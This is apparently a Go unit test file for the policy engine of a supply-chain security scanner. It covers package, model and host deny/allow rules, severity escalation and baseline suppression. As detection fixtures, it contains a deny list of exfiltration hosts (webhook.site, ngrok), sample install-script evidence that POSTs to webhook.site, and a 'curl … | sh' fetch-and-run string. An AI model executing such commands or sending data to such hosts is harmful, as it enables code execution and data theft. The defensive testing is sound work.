package policy

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/assay-dev/assay/internal/core"
)

var today = time.Date(2026, 11, 24, 12, 0, 0, 0, time.UTC)

func loc(p string, line int) core.Location { return core.Location{Path: p, Line: line} }

// ruleIDs lists "RULE@path:line severity" of findings, sorted.
func ruleIDs(fs []core.Finding) []string {
	cp := append([]core.Finding(nil), fs...)
	core.SortFindings(cp)
	var out []string
	for _, f := range cp {
		out = append(out, f.RuleID+" "+f.Location.String()+" "+f.Severity.String())
	}
	return out
}

func pkg(eco, name, version string, direct bool, path string) core.Component {
	return core.Component{Kind: core.KindPackage, Ecosystem: eco, Name: name, Version: version, Direct: direct, Locations: []core.Location{loc(path, 3)}}
}

// Each policy rule: a case that must fire and its benign twin that must not.
func TestPolicyRules(t *testing.T) {
	tests := []struct {
		name   string
		policy string
		comps  []core.Component
		want   []string
	}{
		{
			name:   "POL-001 denied version",
			policy: "packages:\n  deny:\n    - name: litellm\n      versions: [1.82.7, 1.82.8]\n      reason: compromised\n",
			comps:  []core.Component{pkg("PyPI", "LiteLLM", "1.82.8", false, "uv.lock")},
			want:   []string{"ASSAY-POL-001 uv.lock:3 critical"},
		},
		{
			name:   "POL-001 benign twin: clean version",
			policy: "packages:\n  deny:\n    - name: litellm\n      versions: [1.82.7, 1.82.8]\n",
			comps:  []core.Component{pkg("PyPI", "litellm", "1.82.6", false, "uv.lock"), pkg("PyPI", "litellm-proxy", "1.82.8", false, "uv.lock")},
		},
		{
			name:   "POL-001 purl glob and name@version",
			policy: "packages:\n  deny:\n    - \"pkg:npm/@nx/*\"\n    - torch@<2.6.0\n",
			comps: []core.Component{
				{Kind: core.KindPackage, Ecosystem: "npm", Name: "@nx/devkit", Version: "21.5.0", PURL: "pkg:npm/%40nx/devkit@21.5.0", Locations: []core.Location{loc("package-lock.json", 9)}},
				pkg("PyPI", "torch", "2.5.1", true, "requirements.txt"),
			},
			want: []string{"ASSAY-POL-001 package-lock.json:9 critical", "ASSAY-POL-001 requirements.txt:3 critical"},
		},
		{
			name:   "POL-001 benign twin: other scope, fixed torch, unpinned torch",
			policy: "packages:\n  deny:\n    - \"pkg:npm/@nx/*\"\n    - torch@<2.6.0\n",
			comps: []core.Component{
				{Kind: core.KindPackage, Ecosystem: "npm", Name: "nx-utils", Version: "1.0.0", PURL: "pkg:npm/nx-utils@1.0.0"},
				pkg("PyPI", "torch", "2.6.0", true, "requirements.txt"),
				{Kind: core.KindPackage, Ecosystem: "PyPI", Name: "torch", Requirement: ">=2.0", Direct: true},
			},
		},
		{
			name:   "POL-001 ecosystem filter and action deny",
			policy: "packages:\n  deny:\n    - {name: requests, ecosystem: npm}\n    - tj-actions/changed-files\n",
			comps: []core.Component{
				pkg("PyPI", "requests", "2.32.0", true, "requirements.txt"),
				{Kind: core.KindAction, Ecosystem: "GitHub Actions", Name: "tj-actions/changed-files", Version: "v45", Locations: []core.Location{loc(".github/workflows/ci.yml", 12)}},
			},
			want: []string{"ASSAY-POL-001 .github/workflows/ci.yml:12 critical"},
		},
		{
			name:   "POL-002 unapproved direct dependency",
			policy: "packages:\n  allow: [numpy, \"torch>=2.6\"]\n",
			comps: []core.Component{
				pkg("PyPI", "numpy", "2.1.0", true, "requirements.txt"),
				pkg("PyPI", "reqeusts", "2.32.0", true, "requirements.txt"),
				pkg("PyPI", "torch", "2.5.0", true, "requirements.txt"),
			},
			want: []string{"ASSAY-POL-002 requirements.txt:3 high", "ASSAY-POL-002 requirements.txt:3 high"},
		},
		{
			name:   "POL-002 benign twin: approved, transitive, unpinned",
			policy: "packages:\n  allow: [numpy, \"torch>=2.6\"]\n",
			comps: []core.Component{
				pkg("PyPI", "NumPy", "2.1.0", true, "requirements.txt"),
				pkg("PyPI", "six", "1.16.0", false, "uv.lock"),
				{Kind: core.KindPackage, Ecosystem: "PyPI", Name: "torch", Requirement: ">=2.6", Direct: true},
			},
		},
		{
			name:   "POL-003 unsigned model file",
			policy: "require_signed_models: true\n",
			comps: []core.Component{
				{Kind: core.KindModel, Name: "models/clf.pkl", Properties: map[string]string{"format": "pickle"}, Locations: []core.Location{{Path: "models/clf.pkl"}}},
				{Kind: core.KindModel, Name: "models/b.safetensors", Properties: map[string]string{"format": "safetensors", "signature": "unsigned-manifest"}, Locations: []core.Location{{Path: "models/b.safetensors"}}},
			},
			want: []string{"ASSAY-POL-003 models/b.safetensors high", "ASSAY-POL-003 models/clf.pkl high"},
		},
		{
			name:   "POL-003 benign twin: signed file, hub reference, switch off",
			policy: "require_signed_models: true\n",
			comps: []core.Component{
				{Kind: core.KindModel, Name: "models/a.safetensors", Properties: map[string]string{"format": "safetensors", "signature": "verified"}},
				{Kind: core.KindModel, Ecosystem: "Hugging Face", Name: "meta-llama/Llama-3.1-8B", Locations: []core.Location{loc("app.py", 4)}},
			},
		},
		{
			name:   "POL-004 model from unapproved publisher",
			policy: "models:\n  publishers:\n    allow: [meta-llama, \"google*\"]\n",
			comps: []core.Component{
				{Kind: core.KindModel, Ecosystem: "Hugging Face", Name: "meta-lIama/Llama-3.1-8B", Locations: []core.Location{loc("app.py", 4)}},
				{Kind: core.KindModel, Ecosystem: "Hugging Face", Name: "gpt2", Locations: []core.Location{loc("app.py", 5)}},
			},
			want: []string{"ASSAY-POL-004 app.py:4 high", "ASSAY-POL-004 app.py:5 high"},
		},
		{
			name:   "POL-004 benign twin: approved publishers, local file",
			policy: "models:\n  publishers:\n    allow: [meta-llama, \"google*\"]\n",
			comps: []core.Component{
				{Kind: core.KindModel, Ecosystem: "Hugging Face", Name: "Meta-Llama/Llama-3.1-8B"},
				{Kind: core.KindModel, Ecosystem: "Hugging Face", Name: "google-bert/bert-base-uncased"},
				{Kind: core.KindModel, Name: "models/x.onnx", Properties: map[string]string{"format": "onnx"}},
			},
		},
		{
			name:   "POL-005 denied host on service and model URL",
			policy: "hosts:\n  deny: [webhook.site, \"*.ngrok.io\"]\n",
			comps: []core.Component{
				{Kind: core.KindService, Name: "custom-llm", Properties: map[string]string{"url": "https://abc.ngrok.io/v1"}, Locations: []core.Location{loc("app.py", 7)}},
				{Kind: core.KindDataset, Name: "data", ML: &core.ModelInfo{URL: "https://webhook.site/x.csv"}, Locations: []core.Location{loc("train.py", 2)}},
			},
			want: []string{"ASSAY-POL-005 app.py:7 high", "ASSAY-POL-005 train.py:2 high"},
		},
		{
			name:   "POL-005 benign twin: look-alike hosts",
			policy: "hosts:\n  deny: [webhook.site, \"*.ngrok.io\"]\n",
			comps: []core.Component{
				{Kind: core.KindService, Name: "api.openai.com"},
				{Kind: core.KindService, Name: "x", Properties: map[string]string{"url": "https://notwebhook.site/"}},
				{Kind: core.KindService, Name: "y", Properties: map[string]string{"endpoint": "ngrok.io.example.com:443"}},
			},
		},
		{
			name:   "POL-006 service not on allow list",
			policy: "hosts:\n  allow: [api.openai.com]\n",
			comps:  []core.Component{{Kind: core.KindService, Name: "api.deepseek.com", Locations: []core.Location{loc("app.py", 9)}}},
			want:   []string{"ASSAY-POL-006 app.py:9 high"},
		},
		{
			name:   "POL-006 benign twin: allowed service, non-service URL, no host",
			policy: "hosts:\n  allow: [api.openai.com]\n",
			comps: []core.Component{
				{Kind: core.KindService, Name: "openai", Properties: map[string]string{"base_url": "https://api.openai.com/v1"}},
				{Kind: core.KindService, Name: "anthropic"},
				{Kind: core.KindDataset, Name: "d", ML: &core.ModelInfo{URL: "https://example.org/d.csv"}},
			},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			p := mustParse(t, tc.policy)
			r := core.NewReport(".")
			r.Components = tc.comps
			Enforce(r, p, nil, Options{Today: today})
			if d := cmp.Diff(tc.want, ruleIDs(r.Findings)); d != "" {
				t.Errorf("findings (-want +got):\n%s", d)
			}
			for _, f := range r.Findings {
				if f.Title == "" || f.Fix == "" || f.Message == "" || f.Fingerprint == "" {
					t.Errorf("incomplete finding: %+v", f)
				}
			}
		})
	}
}

func finding(rule string, sev core.Severity, path string, line int) core.Finding {
	return core.Finding{RuleID: rule, Severity: sev, Title: "t", Message: "m", Location: loc(path, line), Evidence: rule + path}
}

func TestZeroTrustSwitchesAndRules(t *testing.T) {
	base := func() *core.Report {
		r := core.NewReport(".")
		r.Findings = []core.Finding{
			finding("ASSAY-GHA-001", core.SeverityMedium, ".github/workflows/ci.yml", 10),
			finding("ASSAY-GHA-002", core.SeverityLow, ".github/workflows/ci.yml", 11),
			finding("ASSAY-PRV-001", core.SeverityInfo, "requirements.txt", 1),
			finding("ASSAY-MDL-001", core.SeverityMedium, "m.pkl", 0),
			finding("ASSAY-AI-002", core.SeverityLow, "app.py", 3),
			finding("ASSAY-GHA-003", core.SeverityCritical, ".github/workflows/ci.yml", 12),
		}
		return r
	}
	tests := []struct {
		name, policy string
		want         []string
		suppressed   []string
	}{
		{
			name:   "benign twin: no switches keeps defaults",
			policy: "fail_on: high\nallow_pickle_models: true\n",
			want: []string{
				"ASSAY-GHA-003 .github/workflows/ci.yml:12 critical",
				"ASSAY-GHA-001 .github/workflows/ci.yml:10 medium", "ASSAY-MDL-001 m.pkl medium",
				"ASSAY-GHA-002 .github/workflows/ci.yml:11 low", "ASSAY-AI-002 app.py:3 low",
				"ASSAY-PRV-001 requirements.txt:1 info",
			},
		},
		{
			name:   "all switches raise to high, never lower",
			policy: "require_pinned_actions: true\nrequire_lockfile_hashes: true\nallow_pickle_models: false\nrequire_pinned_model_revisions: true\n",
			want: []string{
				"ASSAY-GHA-003 .github/workflows/ci.yml:12 critical",
				"ASSAY-GHA-001 .github/workflows/ci.yml:10 high", "ASSAY-GHA-002 .github/workflows/ci.yml:11 high",
				"ASSAY-AI-002 app.py:3 high", "ASSAY-MDL-001 m.pkl high", "ASSAY-PRV-001 requirements.txt:1 high",
			},
		},
		{
			name:   "rules: exact beats glob, off suppresses, rules beat switches",
			policy: "require_pinned_actions: true\nrules:\n  ASSAY-GHA-*: low\n  ASSAY-GHA-003: medium\n  assay-prv-001: off\n  ASSAY-MDL-*: {enabled: false}\n  ASSAY-AI-002: {severity: critical}\n",
			want: []string{
				"ASSAY-AI-002 app.py:3 critical",
				"ASSAY-GHA-003 .github/workflows/ci.yml:12 medium",
				"ASSAY-GHA-001 .github/workflows/ci.yml:10 low", "ASSAY-GHA-002 .github/workflows/ci.yml:11 low",
			},
			suppressed: []string{"ASSAY-MDL-001 m.pkl medium", "ASSAY-PRV-001 requirements.txt:1 info"},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			r := base()
			Enforce(r, mustParse(t, tc.policy), nil, Options{Today: today})
			if d := cmp.Diff(tc.want, ruleIDs(r.Findings)); d != "" {
				t.Errorf("findings (-want +got):\n%s", d)
			}
			if d := cmp.Diff(tc.suppressed, ruleIDs(r.Suppressed)); d != "" {
				t.Errorf("suppressed (-want +got):\n%s", d)
			}
			for _, f := range r.Suppressed {
				if f.Suppression == nil || f.Suppression.Reason != DisabledReason || !strings.HasPrefix(f.Suppression.Source, "rules.") {
					t.Errorf("suppression = %+v", f.Suppression)
				}
			}
			for _, f := range r.Findings {
				if f.RuleID == "ASSAY-GHA-001" && f.Severity == core.SeverityHigh && !strings.Contains(f.Message, "[policy: medium→high by require_pinned_actions in assay.yaml]") {
					t.Errorf("re-graded finding does not say why: %q", f.Message)
				}
			}
		})
	}
}

func TestDeniedHostInEvidence(t *testing.T) {
	r := core.NewReport(".")
	r.Findings = []core.Finding{
		{RuleID: "ASSAY-PKG-003", Severity: core.SeverityMedium, Message: "install script posts data", Evidence: `fetch("https://webhook.site/abc", {method:"POST"})`, Location: loc("pkg/install.js", 4)},
		{RuleID: "ASSAY-PKG-003", Severity: core.SeverityMedium, Message: "install script posts data", Evidence: `fetch("https://example.com/webhook.site")`, Location: loc("pkg/other.js", 4)},
	}
	Enforce(r, mustParse(t, "hosts:\n  deny: [webhook.site]\n"), nil, Options{Today: today})
	want := []string{"ASSAY-PKG-003 pkg/install.js:4 high", "ASSAY-PKG-003 pkg/other.js:4 medium"}
	if d := cmp.Diff(want, ruleIDs(r.Findings)); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
}

func TestSkip(t *testing.T) {
	p := mustParse(t, "paths:\n  skip: [\"third_party/**\", node_modules, \"*.min.js\"]\n")
	for rel, want := range map[string]bool{
		"third_party/x/y.py": true, "node_modules": true, "web/node_modules": true, "a/b.min.js": true,
		"src/app.py": false, "third_party": false, "b.js": false,
	} {
		if got := p.Skip(rel, false); got != want {
			t.Errorf("Skip(%q) = %v, want %v", rel, got, want)
		}
	}
}

func TestBaseline(t *testing.T) {
	src := `version: 1
ignore:
  - rule: ASSAY-GHA-001
    path: .github/workflows/*.yml
    reason: legacy workflows, pinned in Q1
    expires: 2026-12-31
  - advisory: GHSA-53q9-*
    package: torch
    reason: we never call torch.load on untrusted files
  - rule: ASSAY-MDL-001
    reason: old acceptance
    expires: 2026-11-23
  - rule: ASSAY-XYZ-999
    reason: typo
  - rule: ASSAY-GHA-002
    reason: expires today, still valid today
    expires: 2026-11-24
`
	entries, err := ParseBaseline([]byte(src), ".assayignore.yaml")
	if err != nil {
		t.Fatal(err)
	}
	r := core.NewReport(".")
	torch := finding("ASSAY-DEP-001", core.SeverityHigh, "requirements.txt", 5)
	torch.Component, torch.Advisories = "pkg:pypi/torch@2.5.1", []string{"GHSA-53q9-r3pm-6pq6", "CVE-2025-32434"}
	torchOther := torch
	torchOther.Component = "pkg:pypi/torchvision@0.1"
	r.Findings = []core.Finding{
		finding("ASSAY-GHA-001", core.SeverityHigh, ".github/workflows/ci.yml", 10),
		finding("ASSAY-GHA-001", core.SeverityHigh, "ci/other.yml", 10),
		finding("ASSAY-GHA-002", core.SeverityMedium, ".github/workflows/ci.yml", 11),
		finding("ASSAY-MDL-001", core.SeverityHigh, "m.pkl", 0),
		torch, torchOther,
	}
	Enforce(r, nil, entries, Options{Today: today, ReportStale: true})
	wantFindings := []string{
		"ASSAY-GHA-001 ci/other.yml:10 high",
		"ASSAY-MDL-001 m.pkl high",
		"ASSAY-DEP-001 requirements.txt:5 high",
		"ASSAY-POL-010 .assayignore.yaml:10 medium",
		"ASSAY-POL-011 .assayignore.yaml:13 info",
	}
	if d := cmp.Diff(wantFindings, ruleIDs(r.Findings)); d != "" {
		t.Errorf("findings (-want +got):\n%s", d)
	}
	wantSupp := []string{
		"ASSAY-GHA-001 .github/workflows/ci.yml:10 high",
		"ASSAY-DEP-001 requirements.txt:5 high",
		"ASSAY-GHA-002 .github/workflows/ci.yml:11 medium",
	}
	if d := cmp.Diff(wantSupp, ruleIDs(r.Suppressed)); d != "" {
		t.Errorf("suppressed (-want +got):\n%s", d)
	}
	for _, f := range r.Suppressed {
		if f.RuleID == "ASSAY-GHA-001" {
			want := &core.Suppression{Reason: "legacy workflows, pinned in Q1", Expires: "2026-12-31", Source: ".assayignore.yaml:3"}
			if d := cmp.Diff(want, f.Suppression); d != "" {
				t.Errorf("suppression (-want +got):\n%s", d)
			}
		}
	}
	for _, f := range r.Findings {
		if f.RuleID == "ASSAY-POL-010" && !strings.Contains(f.Message, "expired on 2026-11-23") {
			t.Errorf("POL-010 message: %q", f.Message)
		}
	}

	// Benign twin of POL-011: without ReportStale (focused verbs) nothing stale is said.
	r2 := core.NewReport(".")
	entries, _ = ParseBaseline([]byte(src), ".assayignore.yaml")
	Enforce(r2, nil, entries, Options{Today: today})
	if d := cmp.Diff([]string{"ASSAY-POL-010 .assayignore.yaml:10 medium"}, ruleIDs(r2.Findings)); d != "" {
		t.Errorf("(-want +got):\n%s", d)
	}
}

func TestBaselineFingerprintSurvivesLineShift(t *testing.T) {
	f := finding("ASSAY-GHA-001", core.SeverityHigh, ".github/workflows/ci.yml", 10)
	fp := f.ComputeFingerprint()
	entries, err := ParseBaseline([]byte("- fingerprint: "+fp+"\n  reason: ok\n"), "b.yaml")
	if err != nil {
		t.Fatal(err)
	}
	r := core.NewReport(".")
	shifted := f
	shifted.Location.Line = 42
	other := finding("ASSAY-GHA-001", core.SeverityHigh, ".github/workflows/release.yml", 10)
	r.Findings = []core.Finding{shifted, other}
	Enforce(r, nil, entries, Options{Today: today, ReportStale: true})
	if len(r.Suppressed) != 1 || r.Suppressed[0].Location.Line != 42 || len(r.Findings) != 1 || r.Findings[0].Location.Path != ".github/workflows/release.yml" {
		t.Errorf("findings %v suppressed %v", ruleIDs(r.Findings), ruleIDs(r.Suppressed))
	}
}

func TestPolicyIgnoreAndBaselineTogether(t *testing.T) {
	p := mustParse(t, "ignore:\n  - rule: ASSAY-GHA-002\n    reason: from policy\n")
	entries, _ := ParseBaseline([]byte("ignore:\n  - rule: ASSAY-GHA-001\n    reason: from baseline\n"), "b.yaml")
	r := core.NewReport(".")
	r.Findings = []core.Finding{finding("ASSAY-GHA-001", core.SeverityHigh, "a.yml", 1), finding("ASSAY-GHA-002", core.SeverityHigh, "a.yml", 2)}
	Enforce(r, p, entries, Options{Today: today, ReportStale: true})
	if len(r.Findings) != 0 || len(r.Suppressed) != 2 {
		t.Fatalf("findings %v suppressed %v", ruleIDs(r.Findings), ruleIDs(r.Suppressed))
	}
	srcs := []string{r.Suppressed[0].Suppression.Source, r.Suppressed[1].Suppression.Source}
	if d := cmp.Diff([]string{"b.yaml:2", "assay.yaml:2"}, srcs); d != "" {
		t.Errorf("sources (-want +got):\n%s", d)
	}
}

func TestBaselineParseErrors(t *testing.T) {
	for src, want := range map[string]string{
		"ignore: {rule: x}\n":                                    "b.yaml:1:9: ignore must be a list of entries, got a mapping",
		"- rule: X\n  reason: \"\"\n":                            "b.yaml:2:11: ignore.reason must not be empty",
		"- rule: X\n  reason: r\n  expires: tomorrow\n":          `b.yaml:3:12: ignore.expires: "tomorrow" is not a date`,
		"- fingerprint: xyz\n  reason: r\n":                      `b.yaml:1:16: ignore.fingerprint: "xyz" is not a hex fingerprint`,
		"- rule: X\n  reason: r\n  paht: a\n":                    `b.yaml:3:3: ignore entry: unknown key "paht" (did you mean "path"?)`,
		"- rule: X\n  reason: r\n  package: a\n  component: b\n": "give package or component, not both",
		"ignores: []\n":                                          `b.yaml:1:1: baseline: unknown key "ignores" (did you mean "ignore"?)`,
		"\x00\x01":                                               "b.yaml",
	} {
		_, err := ParseBaseline([]byte(src), "b.yaml")
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("ParseBaseline(%q) = %v, want %q", src, err, want)
		}
	}
}

func TestComponentMatches(t *testing.T) {
	for _, tc := range []struct {
		pat, ref string
		want     bool
	}{
		{"torch", "pkg:pypi/torch@2.5.1", true},
		{"torch@2.5.1", "pkg:pypi/torch@2.5.1", true},
		{"torch@2.5.2", "pkg:pypi/torch@2.5.1", false},
		{"pkg:pypi/torch", "pkg:pypi/torch@2.5.1", true},
		{"pkg:pypi/torch@*", "pkg:pypi/torch@2.5.1", true},
		{"@nx/devkit", "pkg:npm/%40nx/devkit@21.5.0", true},
		{"torch", "pkg:pypi/torchvision@0.1", false},
		{"litellm", "PyPI/litellm@1.82.8", true},
		{"scikit_learn", "PyPI/scikit-learn@1.5", true},
		{"actions/checkout", "GitHub Actions/actions/checkout@v4", true},
		{"torch", "", false},
	} {
		g, err := compilePackagePattern(tc.pat)
		if err != nil {
			t.Fatal(err)
		}
		if got := componentMatches(g, tc.ref); got != tc.want {
			t.Errorf("componentMatches(%q, %q) = %v, want %v", tc.pat, tc.ref, got, tc.want)
		}
	}
}

func TestWriteBaselineRoundTrip(t *testing.T) {
	r := core.NewReport(".")
	r.Findings = []core.Finding{
		finding("ASSAY-GHA-001", core.SeverityHigh, ".github/workflows/ci.yml", 10),
		finding("ASSAY-MDL-001", core.SeverityHigh, "models/we[ird]*.pkl", 0),
		finding("ASSAY-POL-011", core.SeverityInfo, ".assayignore.yaml", 3),
	}
	old := finding("ASSAY-DEP-001", core.SeverityHigh, "requirements.txt", 2)
	old.Suppression = &core.Suppression{Reason: "reviewed", Expires: "2027-01-01", Source: "b.yaml:2"}
	disabled := finding("ASSAY-GL-001", core.SeverityLow, ".gitlab-ci.yml", 2)
	disabled.Suppression = &core.Suppression{Reason: DisabledReason}
	r.Suppressed = []core.Finding{old, disabled}
	var buf bytes.Buffer
	n, err := WriteBaseline(&buf, r, today)
	if err != nil {
		t.Fatal(err)
	}
	if n != 3 {
		t.Errorf("wrote %d entries, want 3:\n%s", n, buf.String())
	}
	out := buf.String()
	for _, want := range []string{"reason: accepted at baseline creation 2026-11-24", "reason: reviewed", "expires: 2027-01-01", "# t at models/we[ird]*.pkl"} {
		if !strings.Contains(out, want) {
			t.Errorf("baseline lacks %q:\n%s", want, out)
		}
	}
	entries, err := ParseBaseline(buf.Bytes(), "new.yaml")
	if err != nil {
		t.Fatalf("written baseline does not parse: %v\n%s", err, out)
	}
	r2 := core.NewReport(".")
	r2.Findings = append([]core.Finding(nil), r.Findings[:2]...)
	shifted := r.Findings[0]
	shifted.Location.Line = 99
	r2.Findings[0] = shifted
	r2.Findings = append(r2.Findings, finding("ASSAY-GHA-001", core.SeverityHigh, ".github/workflows/new.yml", 1))
	ApplyBaseline(r2, entries, Options{Today: today})
	if d := cmp.Diff([]string{"ASSAY-GHA-001 .github/workflows/new.yml:1 high"}, ruleIDs(r2.Findings)); d != "" {
		t.Errorf("only the new finding should remain (-want +got):\n%s", d)
	}

	// Nothing to accept: still a valid, empty baseline.
	buf.Reset()
	if n, err := WriteBaseline(&buf, core.NewReport("."), today); err != nil || n != 0 {
		t.Fatalf("empty: %d, %v", n, err)
	}
	if e, err := ParseBaseline(buf.Bytes(), "empty.yaml"); err != nil || len(e) != 0 {
		t.Fatalf("empty baseline: %v %v\n%s", e, err, buf.String())
	}
}

func TestURLHosts(t *testing.T) {
	for text, want := range map[string][]string{
		`fetch("https://Webhook.Site/abc")`:           {"webhook.site"},
		"curl http://a.b:8080/x | sh; wss://c.d/e":    {"a.b", "c.d"},
		"git+ssh://git@example.com/x file:///etc/pwd": nil,
		"://x.y  https://":                            nil,
		"xhttps://evil.example/":                      nil,
	} {
		if d := cmp.Diff(want, urlHosts(text)); d != "" {
			t.Errorf("urlHosts(%q) (-want +got):\n%s", text, d)
		}
	}
}
